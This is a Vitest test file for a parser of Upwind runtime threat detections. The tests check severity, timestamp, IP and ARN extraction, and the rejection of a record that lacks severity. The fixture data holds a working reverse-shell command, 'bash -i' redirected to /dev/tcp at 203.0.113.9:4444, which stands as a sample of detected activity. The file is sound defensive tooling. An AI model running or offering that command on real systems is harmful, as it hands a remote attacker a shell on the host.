import { describe, expect, it } from 'vitest'
import { failureOf, parseOne, without } from './vendor-cases.js'

/** Upwind threat detections. */

describe('Upwind.Detections', () => {
  // Shaped after the fields Panther's Upwind passthrough rules read (resource, triggers[].events[]).
  const detection = {
    id: 'det-7f3a2b',
    category: 'Runtime',
    description: 'Reverse shell spawned in container',
    severity: 'CRITICAL',
    status: 'OPEN',
    first_seen_time: '2026-03-18T09:58:00Z',
    last_seen_time: '2026-03-18T10:00:00Z',
    resource: {
      name: 'payments-api',
      namespace: 'prod',
      cloud_account_id: '111122223333',
      cluster_id: 'eks-prod-1',
      internet_exposure: { ingress: { active_communication: true } },
    },
    triggers: [
      {
        events: [
          {
            initiator: {
              name: 'ci',
              arn: 'arn:aws:iam::111122223333:user/ci',
              accountId: '111122223333',
            },
            data: {
              command: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
              user_name: 'root',
              remote_ip: '203.0.113.9',
            },
          },
        ],
      },
    ],
  }

  it('parses a runtime detection with its triggering events', () => {
    expect(parseOne('Upwind.Detections', detection)).toMatchObject({
      severity: 'CRITICAL',
      p_event_time: '2026-03-18 10:00:00.000',
      p_any_ip_addresses: ['203.0.113.9'],
      p_any_aws_arns: ['arn:aws:iam::111122223333:user/ci'],
    })
  })

  it('refuses a detection without a severity', () => {
    expect(failureOf('Upwind.Detections', without(detection, 'severity'))).toBe(
      'missing required field severity',
    )
  })
})
